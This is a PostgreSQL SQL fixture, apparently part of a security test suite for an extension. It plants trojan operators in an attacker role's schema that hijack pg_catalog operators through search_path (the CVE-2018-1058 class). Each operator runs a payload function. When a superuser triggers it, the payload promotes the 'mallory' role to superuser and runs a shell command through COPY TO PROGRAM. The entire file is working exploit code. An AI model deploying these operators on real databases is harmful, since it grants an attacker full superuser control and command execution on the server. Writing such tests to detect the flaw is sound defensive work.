-- Included by hostile_install.sql and hostile_online.sql, as mallory: her capturing operators in
-- schema :"schema". Each has argument types pg_catalog has no operator
-- for, so that it beats pg_catalog's wherever an expression is resolved
-- with her schema anywhere in search_path (the CVE-2018-1058 class); each
-- calls public.hs_payload() and then returns the right answer, so that
-- nothing fails. The types are those of the extension's SQL bound at
-- install (the view, the policy) or run without a pinned search_path
-- (the procedure). The payload: in public, as each database's first
-- inclusion creates it; it records every role other than mallory that runs
-- it, and as a superuser it makes mallory one and writes the mark file.
CREATE TABLE IF NOT EXISTS public.hs_ran (db text, what text, who name);
GRANT INSERT ON public.hs_ran TO PUBLIC;
CREATE OR REPLACE FUNCTION public.hs_payload(what text) RETURNS void
LANGUAGE plpgsql AS $p$
BEGIN
    IF current_user OPERATOR(pg_catalog.<>) 'mallory' THEN
        INSERT INTO public.hs_ran VALUES (pg_catalog.current_database(), what, current_user);
    END IF;
    IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) current_user) THEN
        EXECUTE 'ALTER ROLE mallory SUPERUSER';
        EXECUTE pg_catalog.format('COPY (SELECT %L) TO PROGRAM %L',
                    pg_catalog.current_database() || ': ' || what || ' ran as ' || current_user,
                    'cat >> ' || (SELECT c.mark FROM public.hs_config c));
    END IF;
END;
$p$;
CREATE FUNCTION :"schema".hs_gt_real_int(a real, b integer) RETURNS boolean
LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.hs_payload('>(real,integer)');
    RETURN a::pg_catalog.float8 OPERATOR(pg_catalog.>) b::pg_catalog.float8; END $f$;
CREATE OPERATOR :"schema".> (LEFTARG = real, RIGHTARG = integer, FUNCTION = :"schema".hs_gt_real_int);
CREATE FUNCTION :"schema".hs_mul_f8_num(a double precision, b numeric) RETURNS double precision
LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.hs_payload('*(double precision,numeric)');
    RETURN a OPERATOR(pg_catalog.*) b::pg_catalog.float8; END $f$;
CREATE OPERATOR :"schema".* (LEFTARG = double precision, RIGHTARG = numeric, FUNCTION = :"schema".hs_mul_f8_num);
CREATE FUNCTION :"schema".hs_add_num_f8(a numeric, b double precision) RETURNS double precision
LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.hs_payload('+(numeric,double precision)');
    RETURN a::pg_catalog.float8 OPERATOR(pg_catalog.+) b; END $f$;
CREATE OPERATOR :"schema".+ (LEFTARG = numeric, RIGHTARG = double precision, FUNCTION = :"schema".hs_add_num_f8);
CREATE FUNCTION :"schema".hs_mul_num_int8(a numeric, b bigint) RETURNS numeric
LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.hs_payload('*(numeric,bigint)');
    RETURN a OPERATOR(pg_catalog.*) b::pg_catalog.numeric; END $f$;
CREATE OPERATOR :"schema".* (LEFTARG = numeric, RIGHTARG = bigint, FUNCTION = :"schema".hs_mul_num_int8);
CREATE FUNCTION :"schema".hs_div_num_int8(a numeric, b bigint) RETURNS numeric
LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.hs_payload('/(numeric,bigint)');
    RETURN a OPERATOR(pg_catalog./) b::pg_catalog.numeric; END $f$;
CREATE OPERATOR :"schema"./ (LEFTARG = numeric, RIGHTARG = bigint, FUNCTION = :"schema".hs_div_num_int8);
CREATE FUNCTION :"schema".hs_eq_oid_regclass(a oid, b regclass) RETURNS boolean
LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.hs_payload('=(oid,regclass)');
    RETURN a OPERATOR(pg_catalog.=) b::pg_catalog.oid; END $f$;
CREATE OPERATOR :"schema".= (LEFTARG = oid, RIGHTARG = regclass, FUNCTION = :"schema".hs_eq_oid_regclass);
CREATE FUNCTION :"schema".hs_eq_regclass_oid(a regclass, b oid) RETURNS boolean
LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.hs_payload('=(regclass,oid)');
    RETURN a::pg_catalog.oid OPERATOR(pg_catalog.=) b; END $f$;
CREATE OPERATOR :"schema".= (LEFTARG = regclass, RIGHTARG = oid, FUNCTION = :"schema".hs_eq_regclass_oid);
